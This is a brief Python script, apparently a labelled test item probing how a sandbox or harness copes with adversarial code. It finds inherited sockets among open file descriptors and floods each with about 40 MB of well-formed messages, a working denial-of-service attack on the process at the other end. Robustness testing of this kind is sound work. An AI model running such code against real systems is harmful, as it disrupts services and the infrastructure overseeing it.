"""Fills the channel with small messages that are all well formed, up to forty megabytes.

place: start
honest: affine 0, halve 3, q_linear 1
"""

import os
import socket
import stat
import struct

message = b'{"to": -1, "msg_type": "comm_msg", "content": {}}'
flood = (struct.pack(">I", len(message)) + message) * 20_000
for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            channel = socket.socket(fileno=os.dup(number))
            for _ in range(40):
                channel.sendall(flood)
    except OSError:
        continue
